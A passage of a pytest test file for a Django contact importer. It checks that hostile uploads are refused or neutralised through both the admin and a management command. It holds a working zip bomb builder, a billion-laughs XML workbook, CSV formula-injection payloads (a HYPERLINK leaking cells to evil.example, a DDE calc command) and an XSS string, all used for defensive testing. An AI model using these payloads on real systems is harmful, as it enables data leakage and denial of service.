"""Issue 5's hostile files, each through both doors: the admin's upload and `manage.py import_contacts`.

One corpus (CASES). A file refused as a whole gives one clear line, no traceback, no confirm button
and nothing written, even with --commit. A file that is odd but readable (a 1 MB cell, repeated
headers, formulas, mixed encodings) gives the same documented outcome through both doors.
"""

import contextlib
import csv
import functools
import io
import json
import os
import random
import re
import struct
import subprocess
import sys
import textwrap
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from unittest import mock

import defusedxml
import openpyxl
import openpyxl.xml
import pytest
from django.core.management import execute_from_command_line
from django.db import connection, connections
from django.urls import reverse
from django.utils.html import escape
from openpyxl.xml import functions as openpyxl_xml

from contacts.importing.columns import ENGLISH_HEADERS
from contacts.importing.commit import COMMIT_FAILED
from contacts.importing.interpretation import REPEATED_COLUMNS
from contacts.importing.pipeline import NO_DATA_ROWS, UNKNOWN_COLUMNS
from contacts.importing.reading import (
    ABNORMAL_COMPRESSION,
    DAMAGED,
    EMPTY,
    EXPANDS_TOO_MUCH,
    HEADER_SEARCH_ROWS,
    NO_SHEET_WITH_HEADERS,
    NOT_SPREADSHEET,
    NUL_BYTES,
    NUL_IN_CELLS,
    PASSWORD_PROTECTED,
    PDF,
    TOO_BIG,
    TOO_MANY_COLUMNS,
    TOO_MANY_ROWS,
    TOO_WIDE,
)
from contacts.importing.reports import ERROR_COLUMN
from contacts.management.commands.import_contacts import INVALID_FILE
from contacts.models import Contact, ContactChange, ImportBatch
from contacts.normalization import INVALID_EMAIL, shown
from contacts.services import bulk
from contacts.services.bulk import INVALID_ROWS
from contacts.services.checks import TOO_LONG
from tests.factories import ContactFactory, CustomerFactory
from tests.helpers import (
    CONFIRM,
    FIXTURES,
    HEADERS,
    PREVIEW,
    contact_row,
    csv_bytes,
    messages_of,
    preview_key,
    stored_previews,
    upload,
    uploaded,
    with_entity_bomb,
    workbook_bytes,
    xlsx_bytes,
    xlsx_with_sheet_of_spaces,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[3]
MB = 1024 * 1024
GIB = 1024 * MB
ERROR_REPORT = {
    fmt: reverse("admin:contacts_contact_import_error_report", args=[fmt]) for fmt in ("csv", "xlsx")
}
SHEET = "xl/worksheets/sheet1.xml"


# --- Builders of the hostile files -------------------------------------------------------------------


def valid_rows(customer, count: int) -> list[list[str]]:
    return [contact_row(customer, f"C-{n}", f"c{n}@client.example") for n in range(count)]


def random_bytes(customer=None) -> bytes:
    return random.Random(3).randbytes(4096)


def pdf(customer=None) -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"


def xml_entity_bomb(customer=None) -> bytes:
    """A real workbook whose sheet declares a billion laughs: one cell would expand to 3 GB of "lol"."""
    return with_entity_bomb(xlsx_bytes([["BOMB", "AC-1", "C-1", "a@client.example"]]), sheet=SHEET)


@functools.cache
def gigabytes_zip_bomb(customer=None) -> bytes:
    """A real 2 MB workbook whose sheet inflates to 2 GiB of spaces.

    Compressing 2 GiB would take seconds: the deflate stream repeats one block compressed once and
    ended with a full flush, which makes it independent of what comes before it.
    """
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Acme", "AC-1", "C-1", "a@client.example"]])))
    members = []
    for info in source.infolist():
        content = source.read(info.filename)
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        if info.filename != SHEET:
            deflated = compressor.compress(content) + compressor.flush()
            members.append((info.filename, deflated, len(content), zlib.crc32(content)))
            continue
        head, tail = content.split(b"</worksheet>")[0], b"</worksheet>"
        chunk, count = b" " * MB, 2048
        deflated = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        deflated += block * count + compressor.compress(tail) + compressor.flush()
        crc = zlib.crc32(head)
        for _ in range(count):
            crc = zlib.crc32(chunk, crc)
        members.append(
            (info.filename, deflated, len(head) + count * len(chunk) + len(tail), zlib.crc32(tail, crc))
        )
    return zip_archive(members)


LOCAL_HEADER = struct.Struct("<4s5H3L2H")
CENTRAL_HEADER = struct.Struct("<4s6H3L5H2L")
END_OF_DIRECTORY = struct.Struct("<4s4H2LH")


def zip_archive(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated members: (name, deflated bytes, inflated size, CRC-32)."""
    out = io.BytesIO()
    directory = []
    for name, deflated, size, crc in members:
        encoded, offset = name.encode(), out.tell()
        # Deflated, dated 1980-01-01, sizes and CRC known up front, no extra fields.
        common = (8, 0, 0x21, crc, len(deflated), size, len(encoded), 0)
        out.write(LOCAL_HEADER.pack(b"PK\x03\x04", 20, 0, *common) + encoded + deflated)
        directory.append(CENTRAL_HEADER.pack(b"PK\x01\x02", 20, 20, 0, *common, 0, 0, 0, 0, offset) + encoded)
    start, listing = out.tell(), b"".join(directory)
    count = len(members)
    out.write(listing + END_OF_DIRECTORY.pack(b"PK\x05\x06", 0, 0, count, count, len(listing), start, 0))
    return out.getvalue()


def mixed_encodings(customer) -> bytes:
    """UTF-8 lines, then a line pasted from a Windows-1252 file."""
    utf8 = csv_bytes(
        [contact_row(customer, "M-1", "m1@client.example", first_name="Zoé", last_name="Müller")]
    )
    cp1252 = csv_bytes(
        [contact_row(customer, "M-2", "m2@client.example", first_name="Chloé", last_name="O\u2019Brien")],
        headers=None,
        encoding="cp1252",
    )
    return utf8 + cp1252


FORMULA_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_EMAIL = "=cmd|' /C calc'!A0"


def formulas(customer) -> bytes:
    return csv_bytes(
        [
            contact_row(customer, "F-1", "f@client.example", first_name=FORMULA_LINK, last_name="@SUM(1+1)"),
            contact_row(customer, "F-2", FORMULA_EMAIL, first_name="-2+3", last_name="+33"),
        ]
    )


# Issue 13: a control character before a formula hid it from a check made before control characters
# were removed, and the XLSX report held a live formula.
HIDDEN_FORMULA = '\x01=HYPERLINK("http://evil.example/?leak="&A2,"x")'
PHONE = "+33 6 12 34 56 78"


def hidden_formulas(customer) -> bytes:
    return csv_bytes(
        [
            contact_row(customer, "H-1", "h1@client.example", first_name=HIDDEN_FORMULA, phone=PHONE),
            contact_row(
                customer, "H-2", "=1+1", first_name=HIDDEN_FORMULA, last_name="@SUM(1+1)", phone=PHONE
            ),
        ]
    )


BIG = 1_000_000
BIG_EMAIL = "a" * BIG + "@client.example"
OK_ROW = {"external_id": "OK-1", "email": "ok@client.example", "first_name": "Ok"}


def with_ok_row(customer, row: list[str]) -> bytes:
    ok = contact_row(customer, OK_ROW["external_id"], OK_ROW["email"], first_name=OK_ROW["first_name"])
    return csv_bytes([row, ok])


# Issue 13's memory bombs: a header row reaching far to the right, above rows that are small.
BOMB_HEADER = "Customer name,External identification code,Contact's Identifier code,Contact's Email"
BOMB_COMMAS = 1_000_000


def csv_header_of_commas(customer=None) -> bytes:
    """A 1 MB header line of commas ending in a cell, then 300 rows of 4 valid values: every row used to be
    padded to its million columns (3.5 GB)."""
    rows = "".join(f"Acme,AC-1,C-{n},c{n}@client.example\n" for n in range(300))
    return (BOMB_HEADER + "," * BOMB_COMMAS + "Z\n" + rows).encode()


@functools.cache
def xlsx_header_cell_at_xfd1(customer=None) -> bytes:
    """A 64 KB workbook with a header cell at XFD1 and 3,000 rows: calamine would build a dense range of 49
    million cells (1.9 GB). Written without a <dimension>, as openpyxl's write-only mode does."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Contacts")
    sheet.append([*BOMB_HEADER.split(","), *[None] * (16384 - 5), "Z"])
    for n in range(3000):
        sheet.append(["Acme", "AC-1", f"C-{n}", f"c{n}@client.example"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- The corpus ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    """The whole file is refused with `message`; `on_upload`: by the admin's upload form (nothing kept)."""

    message: str
    on_upload: bool = False


@dataclass(frozen=True)
class Read:
    """The file is read: its totals, its problems as (row, column, message), the contacts written."""

    totals: dict[str, int]
    written: dict[str, dict[str, str]]  # external_id -> stored values, after a commit skipping invalid rows
    errors: list[tuple] = field(default_factory=list)
    warnings: list[tuple] = field(default_factory=list)


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    build: Callable[..., bytes]  # customer -> bytes; rows name that customer
    expected: Refused | Read
    settings: dict = field(default_factory=dict)  # small limits keep the files small


def totals(rows: int, new: int, invalid: int = 0) -> dict[str, int]:
    return {"rows": rows, "new": new, "updated": 0, "unchanged": 0, "invalid": invalid}


def first_name_of(external_id: str, first_name: str) -> dict:
    return {external_id: {"first_name": first_name}}


CASES = [
    Case("empty", "empty.csv", lambda customer: b"", Refused(EMPTY, on_upload=True)),
    Case("blank lines", "blank.csv", lambda customer: b"\r\n;;;\r\n ; ;\r\n", Refused(EMPTY)),
    Case("header only csv", "header.csv", lambda customer: csv_bytes([]), Refused(NO_DATA_ROWS)),
    Case("header only xlsx", "header.xlsx", lambda customer: xlsx_bytes([]), Refused(NO_DATA_ROWS)),
    Case(
        "random bytes csv", "random.csv", random_bytes, Refused(NOT_SPREADSHEET.format(name='"random.csv"'))
    ),
    Case(
        "random bytes xlsx",
        "random.xlsx",
        random_bytes,
        Refused(NOT_SPREADSHEET.format(name='"random.xlsx"')),
    ),
    Case(
        "random bytes in a zip header",
        "zip.xlsx",
        lambda customer: b"PK\x03\x04" + random_bytes(),
        Refused(DAMAGED.format(name='"zip.xlsx"')),
    ),
    Case("pdf renamed xlsx", "scan.xlsx", pdf, Refused(PDF)),
    Case(
        "over the size limit",
        "big.csv",
        lambda customer: csv_bytes(valid_rows(customer, 2000)),
        Refused(TOO_BIG.format(limit="0.0625"), on_upload=True),
        settings={"CONTACT_IMPORT_MAX_BYTES": 64 * 1024},
    ),
    Case(
        "over the row limit csv",
        "rows.csv",
        lambda customer: csv_bytes(valid_rows(customer, 6)),
        Refused(TOO_MANY_ROWS.format(limit=5)),
        settings={"CONTACT_IMPORT_MAX_ROWS": 5},
    ),
    Case(
        "over the row limit xlsx",
        "rows.xlsx",
        lambda customer: xlsx_bytes(valid_rows(customer, 6)),
        Refused(TOO_MANY_ROWS.format(limit=5)),
        settings={"CONTACT_IMPORT_MAX_ROWS": 5},
    ),
    Case("xml entity bomb", "laughs.xlsx", xml_entity_bomb, Refused(DAMAGED.format(name='"laughs.xlsx"'))),
    Case("zip bomb of 2 GiB", "bomb.xlsx", gigabytes_zip_bomb, Refused(EXPANDS_TOO_MUCH.format(limit="200"))),
    Case(
        "zip part compressed abnormally",
        "packed.xlsx",
        lambda customer: xlsx_with_sheet_of_spaces(8 * MB),
        Refused(ABNORMAL_COMPRESSION.format(ratio=200)),
    ),
    Case(
        "nul bytes csv",
        "nul.csv",
        lambda customer: csv_bytes([contact_row(customer, "C-1", "a\x00@client.example")]),
        Refused(NUL_BYTES),
    ),
    Case(
        # calamine turns Excel's escape _x0000_ into a NUL character, which PostgreSQL cannot store.
        "nul characters xlsx",
        "nul.xlsx",
        lambda customer: xlsx_bytes(
            [contact_row(customer, "C-1", "a@client.example", first_name="A_x0000_")]
        ),
        Refused(NUL_IN_CELLS.format(where="Row 2", sheet="Contacts")),
    ),
    Case(
        "sheet name on two lines",
        "notes.xlsx",
        lambda customer: workbook_bytes({"Read\nme": [["Notes"]]}),
        Refused(NO_SHEET_WITH_HEADERS.format(rows=HEADER_SEARCH_ROWS, sheets='"Readme"')),
    ),
    Case(
        "1 MB header line of commas csv",
        "commas.csv",
        csv_header_of_commas,
        Refused(TOO_MANY_COLUMNS.format(row=1, count=4 + BOMB_COMMAS, limit=200)),
    ),
    Case(
        "header cell at XFD1 xlsx",
        "wide.xlsx",
        xlsx_header_cell_at_xfd1,
        Refused(TOO_WIDE.format(name='"wide.xlsx"', column="XFD", limit=200)),
    ),
    Case(
        "password protected xlsx",
        "locked.xlsx",
        lambda customer: (FIXTURES / "password-protected.xlsx").read_bytes(),
        Refused(PASSWORD_PROTECTED),
    ),
    Case(
        "1 MB first name",
        "long-name.csv",
        lambda customer: with_ok_row(
            customer, contact_row(customer, "BIG-1", "big@client.example", first_name="x" * BIG)
        ),
        Read(
            totals(2, 1, invalid=1),
            written=first_name_of("OK-1", "Ok"),
            errors=[(2, ENGLISH_HEADERS["first_name"], TOO_LONG.format(length=BIG, limit=150))],
        ),
    ),
    Case(
        "1 MB email",
        "long-email.csv",
        lambda customer: with_ok_row(customer, contact_row(customer, "BIG-1", BIG_EMAIL)),
        Read(
            totals(2, 1, invalid=1),
            written=first_name_of("OK-1", "Ok"),
            errors=[(2, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value=shown(BIG_EMAIL)))],
        ),
    ),
    Case(
        "1 MB cell in a column not imported",
        "long-note.csv",
        lambda customer: csv_bytes(
            [[*contact_row(customer, "N-1", "n@client.example", first_name="Noted"), "n" * BIG]],
            headers=[*HEADERS, "Notes"],
        ),
        Read(
            totals(1, 1),
            written=first_name_of("N-1", "Noted"),
            warnings=[(None, None, UNKNOWN_COLUMNS.format(columns='"Notes"'))],
        ),
    ),
    Case(
        "line break in a cell",
        "break.csv",
        lambda customer: with_ok_row(customer, contact_row(customer, "LB-1", "bob\r\nacme")),
        Read(
            totals(2, 1, invalid=1),
            written=first_name_of("OK-1", "Ok"),
            errors=[(2, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value=shown("bob\r\nacme")))],
        ),
    ),
    Case(
        "duplicated headers",
        "twice.csv",
        lambda customer: csv_bytes(
            [[*contact_row(customer, "D-1", "first@client.example"), "second@client.example"]],
            headers=[*HEADERS, "Email du contact"],
        ),
        Read(
            totals(1, 1),
            written={"D-1": {"email": "first@client.example"}},
            warnings=[
                (
                    None,
                    None,
                    REPEATED_COLUMNS.format(columns="D and J", column="Contact's Email", first="D"),
                )
            ],
        ),
    ),
    Case(
        "formulas",
        "formulas.csv",
        formulas,
        Read(
            totals(2, 1, invalid=1),
            written={"F-1": {"first_name": FORMULA_LINK, "last_name": "@SUM(1+1)"}},
            errors=[(3, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value=FORMULA_EMAIL))],
        ),
    ),
    Case(
        "control character before a formula",
        "hidden-formulas.csv",
        hidden_formulas,
        Read(
            totals(2, 1, invalid=1),
            written={"H-1": {"first_name": HIDDEN_FORMULA[1:], "phone": "+33612345678"}},
            errors=[(3, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value="=1+1"))],
        ),
    ),
    Case(
        "mixed encodings",
        "mixed.csv",
        mixed_encodings,
        Read(
            totals(2, 2),
            written={
                "M-1": {"first_name": "Zoé", "last_name": "Müller"},
                "M-2": {"first_name": "Chloé", "last_name": "O\u2019Brien"},
            },
        ),
    ),
    Case(
        "html in a cell",
        "html.csv",
        lambda customer: csv_bytes(
            [contact_row(customer, "H-1", "h@client.example", first_name="<script>alert(1)</script>")]
        ),
        Read(totals(1, 1), written=first_name_of("H-1", "<script>alert(1)</script>")),
    ),
]
REFUSED = [pytest.param(case, id=case.id) for case in CASES if isinstance(case.expected, Refused)]
READ = [pytest.param(case, id=case.id) for case in CASES if isinstance(case.expected, Read)]


# --- Fixtures and helpers ------------------------------------------------------------------------------


@pytest.fixture
def customer(org):
    customer = CustomerFactory(organization=org, name="Acme", external_id="AC-1")
    ContactFactory(customer=customer, external_id="OLD-1", email="old@client.example", first_name="Old")
    return customer


def database_state() -> tuple:
    """Every contact as stored, and how many batches and changes: what "nothing written" compares."""
    return (
        list(
            Contact.objects.order_by("pk").values_list(
                "pk", "external_id", "email", "first_name", "updated_at"
            )
        ),
        ImportBatch.objects.count(),
        ContactChange.objects.count(),
    )


def committed_files(media_root: Path) -> list[Path]:
    folder = media_root / "contact-imports"
    return [path for path in folder.rglob("*") if path.is_file()] if folder.exists() else []


def manage(*args) -> tuple[int, str, str]:
    """(exit status, stdout, stderr) of `manage.py import_contacts ARGS`, as a shell would see them."""
    out, err = io.StringIO(), io.StringIO()
    # run_from_argv closes the connections when done, which would end the test's transaction.
    keep_connections = mock.patch.object(connections, "close_all")
    with keep_connections, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            execute_from_command_line(["manage.py", "import_contacts", *[str(arg) for arg in args]])
        except SystemExit as exit:
            return exit.code, out.getvalue(), err.getvalue()
    return 0, out.getvalue(), err.getvalue()


def label(row: int | None, column: str | None, message: str) -> str:
    """A problem as the command's summary and the admin word it (ImportReport.label)."""
    if row is None:
        return f'"{column}": {message}' if column else message
    return f'Row {row}, "{column}": {message}' if column else f"Row {row}: {message}"


def problems(report, kind: list) -> list[tuple]:
    return [(problem.row, report.column(problem), problem.message) for problem in kind]


def written_contacts(org) -> dict[str, Contact]:
    return {
        contact.external_id: contact
        for contact in Contact.objects.filter(organization=org).exclude(external_id="OLD-1")
    }


def assert_written(org, expected: dict[str, dict[str, str]]) -> None:
    contacts = written_contacts(org)
    assert set(contacts) == set(expected)
    for external_id, values in expected.items():
        assert {name: getattr(contacts[external_id], name) for name in values} == values


def file_errors_shown(content: str) -> list[str]:
    block = re.search(r'<div class="errornote" id="file-errors">.*?<ul>(.*?)</ul>', content, re.S)
    return re.findall(r"<li>(.*?)</li>", block.group(1), re.S) if block else []


def use_settings(settings, overrides: dict) -> None:
    for name, value in overrides.items():
        setattr(settings, name, value)


def csv_report(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# --- Refused files ------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", REFUSED)
def test_the_admin_refuses_a_hostile_file_with_one_line_and_writes_nothing(
    case, importer, org, customer, media_root, settings
):
    use_settings(settings, case.settings)
    message = case.expected.message
    assert "\n" not in message
    before = database_state()

    response = upload(importer, org, case.build(customer), case.filename)

    if case.expected.on_upload:
        assert response.status_code == 200
        assert response.context["form"].errors["file"] == [message]
        assert stored_previews(media_root) == []
    else:
        key = preview_key(response)
        preview = importer.get(PREVIEW, key)
        content = preview.content.decode()
        assert preview.status_code == 200
        assert preview.context["file_errors"] == [message]
        assert file_errors_shown(content) == [escape(message)]
        assert 'id="confirm-import"' not in content
        assert "Traceback" not in content

        confirm = importer.post(CONFIRM, {**key, "skip_invalid": "on"})
        report = importer.get(ERROR_REPORT["csv"], key)

        assert (confirm.status_code, confirm["Location"].split("?")[0]) == (302, PREVIEW)
        assert messages_of(confirm) == [message]
        header, *lines = csv_report(report.content)
        assert (header[-1], [line[-1] for line in lines]) == (ERROR_COLUMN, [message])
        # Kept for the preview page, like any upload; deleted when a day old.
        assert len(stored_previews(media_root)) == 1
    assert database_state() == before
    assert committed_files(media_root) == []


@pytest.mark.parametrize("case", REFUSED)
def test_the_command_line_refuses_a_hostile_file_with_one_line_and_exit_1(
    case, org, customer, media_root, settings, tmp_path
):
    use_settings(settings, case.settings)
    message = case.expected.message
    path = tmp_path / case.filename
    path.write_bytes(case.build(customer))
    before = database_state()

    for flags in ([], ["--commit"], ["--commit", "--skip-invalid"]):
        assert manage(path, "--organization", org.slug, *flags) == (1, "", f"CommandError: {message}\n"), (
            flags
        )
    status, out, err = manage(path, "--organization", org.slug, "--commit", "--json")

    assert (status, err) == (1, f"CommandError: {message}\n")
    result = json.loads(out)
    assert (result["committed"], result["errors"]) == (
        False,
        [{"row": None, "column": None, "message": message}],
    )
    assert database_state() == before
    assert committed_files(media_root) == []


# --- Odd files that are read ----------------------------------------------------------------------------


@pytest.mark.parametrize("case", READ)
def test_the_admin_gives_the_documented_outcome_of_an_odd_file(case, importer, org, customer, settings):
    expected = case.expected
    before = database_state()
    key = uploaded(importer, org, case.build(customer), case.filename)

    preview = importer.get(PREVIEW, key)

    report = preview.context["report"]
    content = preview.content.decode()
    assert report.totals == expected.totals
    assert problems(report, report.errors) == expected.errors
    assert problems(report, report.warnings) == expected.warnings
    assert all("\n" not in report.label(problem) for problem in report.errors + report.warnings)
    assert 'id="file-errors"' not in content
    assert 'id="confirm-import"' in content
    assert "Traceback" not in content
    assert "<script>alert(1)" not in content
    if expected.errors:
        strict = importer.post(CONFIRM, key)
        assert messages_of(strict) == [INVALID_ROWS.format(count=expected.totals["invalid"])]
        assert database_state() == before

    confirm = importer.post(CONFIRM, {**key, "skip_invalid": "on"})

    batch = ImportBatch.objects.get()
    # The agent lands on the import's page.
    assert (confirm.status_code, confirm["Location"]) == (
        302,
        reverse("admin:contacts_importbatch_change", args=[batch.pk]),
    )
    assert_written(org, expected.written)
    assert (batch.status, batch.new, batch.invalid) == (
        "committed",
        expected.totals["new"],
        expected.totals["invalid"],
    )


@pytest.mark.parametrize("case", READ)
def test_the_command_line_gives_the_documented_outcome_of_an_odd_file(case, org, customer, tmp_path):
    expected = case.expected
    path = tmp_path / case.filename
    path.write_bytes(case.build(customer))
    before = database_state()
    status = 1 if expected.errors else 0

    json_status, json_out, _ = manage(path, "--organization", org.slug, "--json")
    dry_status, dry_out, dry_err = manage(path, "--organization", org.slug)

    result = json.loads(json_out)
    assert (json_status, dry_status) == (status, status)
    assert result["totals"] == expected.totals
    assert result["errors"] == [{"row": r, "column": c, "message": m} for r, c, m in expected.errors]
    assert result["warnings"] == [{"row": r, "message": label(None, c, m)} for r, c, m in expected.warnings]
    lines = dry_out.splitlines()
    for row, column, message in expected.warnings + expected.errors:
        assert f"  {label(row, column, message)}" in lines
    assert dry_err == (f"CommandError: {INVALID_FILE}\n" if expected.errors else "")
    assert "Traceback" not in dry_out + dry_err
    assert database_state() == before
    if expected.errors:
        refused = manage(path, "--organization", org.slug, "--commit")
        assert refused[::2] == (1, f"CommandError: {INVALID_ROWS.format(count=expected.totals['invalid'])}\n")
        assert database_state() == before

    assert manage(path, "--organization", org.slug, "--commit", "--skip-invalid")[0] == 0

    assert_written(org, expected.written)
    assert ImportBatch.objects.get().status == "committed"


# --- Formulas: text on the way in, escaped on the way out ---------------------------------------------


def report_cells(content: bytes, format: str) -> list[list[str]]:
    if format == "csv":
        return csv_report(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]


def reports_of(importer, key: dict) -> list[tuple[str, bytes]]:
    """The preview's error reports of an upload, then the history's once committed: (format, content)."""
    previews = [(fmt, importer.get(ERROR_REPORT[fmt], key).content) for fmt in ERROR_REPORT]
    importer.post(CONFIRM, {**key, "skip_invalid": "on"})
    batch = ImportBatch.objects.get()
    history = reverse("admin:contacts_importbatch_error_report", args=[batch.pk, "csv"]).rsplit(".", 1)[0]
    return previews + [(fmt, importer.get(f"{history}.{fmt}").content) for fmt in ERROR_REPORT]


def assert_no_formula(content: bytes, format: str) -> None:
    if format == "xlsx":
        sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET)
        assert b"<f>" not in sheet_xml
        assert b"<f " not in sheet_xml


def test_formulas_are_stored_as_text_and_neutralised_in_every_error_report(importer, org, customer):
    key = uploaded(importer, org, formulas(customer), "formulas.csv")

    downloads = reports_of(importer, key)

    assert Contact.objects.get(external_id="F-1").first_name == FORMULA_LINK
    for fmt, content in downloads:
        assert_no_formula(content, fmt)
        header, invalid = report_cells(content, fmt)
        row = dict(zip(header, invalid, strict=True))
        # CSV: OWASP's apostrophe before a formula, none before a number. XLSX: text cells, as written.
        prefix = "'" if fmt == "csv" else ""
        assert row[ENGLISH_HEADERS["email"]] == prefix + FORMULA_EMAIL
        assert row[ENGLISH_HEADERS["first_name"]] == prefix + "-2+3"
        assert row[ENGLISH_HEADERS["last_name"]] == "+33"
        assert row[ERROR_COLUMN].startswith('Row 3, "Contact\'s Email": ')


def test_a_control_character_before_a_formula_never_makes_a_formula_of_it_in_a_report(
    importer, org, customer
):
    key = uploaded(importer, org, hidden_formulas(customer), "hidden-formulas.csv")

    downloads = reports_of(importer, key)

    stored = Contact.objects.get(external_id="H-1")
    assert (stored.first_name, stored.phone) == (HIDDEN_FORMULA[1:], "+33612345678")
    for fmt, content in downloads:
        assert_no_formula(content, fmt)
        header, invalid = report_cells(content, fmt)
        row = dict(zip(header, invalid, strict=True))
        prefix = "'" if fmt == "csv" else ""
        assert row[ENGLISH_HEADERS["first_name"]] == prefix + HIDDEN_FORMULA[1:]
        assert row[ENGLISH_HEADERS["last_name"]] == prefix + "@SUM(1+1)"
        assert row[ENGLISH_HEADERS["email"]] == prefix + "=1+1"
        assert row[ENGLISH_HEADERS["phone"]] == PHONE


def text_workbook(rows: list[list[str]]) -> bytes:
    """A workbook whose cells are all text cells, "=…" included (as a client types them after a ')."""
    workbook = openpyxl.Workbook()
    for line in [HEADERS, *rows]:
        workbook.active.append(line)
    for row in workbook.active.iter_rows():
        for cell in row:
            cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_workbook_of_formula_texts_comes_back_as_text_cells(importer, org, customer):
    rows = [
        contact_row(customer, "W-1", "w1@client.example"),
        contact_row(customer, "W-2", "=1+1", first_name=HIDDEN_FORMULA[1:], phone=PHONE),
    ]
    key = uploaded(importer, org, text_workbook(rows), "formulas.xlsx")

    for fmt, content in reports_of(importer, key):
        assert_no_formula(content, fmt)
        header, invalid = report_cells(content, fmt)
        row = dict(zip(header, invalid, strict=True))
        assert row[ENGLISH_HEADERS["phone"]] == PHONE
        assert row[ENGLISH_HEADERS["first_name"]].lstrip("'") == HIDDEN_FORMULA[1:]


# --- Bombs: refused in bounded memory and time ----------------------------------------------------------


def test_openpyxl_parses_xml_through_defusedxml_which_refuses_the_entity_bomb():
    assert openpyxl.xml.DEFUSEDXML is True
    assert openpyxl_xml.fromstring.__module__.startswith("defusedxml.")
    assert openpyxl_xml.iterparse.__module__.startswith("defusedxml.")
    with pytest.raises(ValueError, match="Unable to read workbook") as raised:
        openpyxl.load_workbook(io.BytesIO(xml_entity_bomb()))

    assert isinstance(raised.value.__cause__, defusedxml.EntitiesForbidden)


MEASURE = textwrap.dedent(
    """
    import json, re, resource, sys, time
    import django
    django.setup()
    from contacts.importing.reading import FileRejected, read_table
    data = open(sys.argv[1], "rb").read()
    started = time.monotonic()
    try:
        read_table(data, filename=sys.argv[2])
        message = ""
    except FileRejected as error:
        message = str(error)
    print(json.dumps({
        "message": message,
        "seconds": time.monotonic() - started,
        # VmHWM, not ru_maxrss: the latter keeps the peak of the process before exec (pytest's own).
        "peak_mib": int(re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read())[1]) / 1024,
        "child_peak_mib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024,
    }))
    """
)


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in KiB on Linux only")
@pytest.mark.parametrize(
    ("build", "name", "message"),
    [
        (xml_entity_bomb, "laughs.xlsx", DAMAGED.format(name='"laughs.xlsx"')),
        (gigabytes_zip_bomb, "bomb.xlsx", EXPANDS_TOO_MUCH.format(limit="200")),
        (
            csv_header_of_commas,
            "commas.csv",
            TOO_MANY_COLUMNS.format(row=1, count=4 + BOMB_COMMAS, limit=200),
        ),
        (xlsx_header_cell_at_xfd1, "wide.xlsx", TOO_WIDE.format(name='"wide.xlsx"', column="XFD", limit=200)),
    ],
    ids=["xml entity bomb", "zip bomb of 2 GiB", "1 MB header of commas", "header cell at XFD1"],
)
def test_a_bomb_is_refused_within_seconds_and_a_few_dozen_megabytes(build, name, message, tmp_path):
    path = tmp_path / name
    path.write_bytes(build())
    environment = {**os.environ, "DJANGO_SETTINGS_MODULE": "contacts_site.settings", "DJANGO_ENV_FILE": ""}

    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), name],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert done.returncode == 0, done.stderr
    measured = json.loads(done.stdout)
    assert measured["message"] == message
    assert measured["seconds"] < 10
    # Expanded, each bomb needs gigabytes; Python and Django alone take about 60 MiB. (Issue 13 asks for
    # under 400 MB, process and children together.)
    assert measured["peak_mib"] < 200
    assert measured["child_peak_mib"] < 200


def test_the_zip_bomb_really_inflates_to_gigabytes():
    archive = zipfile.ZipFile(io.BytesIO(gigabytes_zip_bomb()))

    with archive.open(SHEET) as sheet:
        start = sheet.read(64 * MB)

    assert len(gigabytes_zip_bomb()) < 3 * MB
    assert archive.getinfo(SHEET).file_size > 2 * GIB
    assert start.startswith(b"<worksheet")
    assert start.endswith(b" " * MB)


def test_the_command_line_reads_no_more_of_a_huge_file_than_the_limit(org, settings, tmp_path):
    settings.CONTACT_IMPORT_MAX_BYTES = MB
    path = tmp_path / "huge.csv"
    with path.open("wb") as huge:
        huge.truncate(256 * MB)  # sparse: costs no disk

    tracemalloc.start()
    try:
        status, out, err = manage(path, "--organization", org.slug, "--commit")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert (status, out, err) == (1, "", f"CommandError: {TOO_BIG.format(limit='1')}\n")
    assert peak < 16 * MB


# --- A database error in the middle of the writes ---------------------------------------------------------


@pytest.mark.parametrize("door", ["admin", "command line"])
def test_a_database_error_after_the_contacts_are_written_writes_nothing_and_records_a_failed_batch(
    door, importer, org, customer, monkeypatch, tmp_path
):
    # 10 new contacts written (2 by 2 on SQLite, one COPY on PostgreSQL), then the database refuses the
    # statement that records them in the import's changes.
    monkeypatch.setattr(bulk, "BATCH_SIZE", 2)
    data = csv_bytes(valid_rows(customer, 10))
    table = connection.ops.quote_name(ContactChange._meta.db_table)
    writes, stored_before_failure = [], []

    def changes_write_fails(execute, sql, params, many, context):
        if sql.startswith((f"INSERT INTO {table}", f"COPY {table}")):
            writes.append(sql)
            stored_before_failure.append(Contact.objects.filter(organization=org).count())
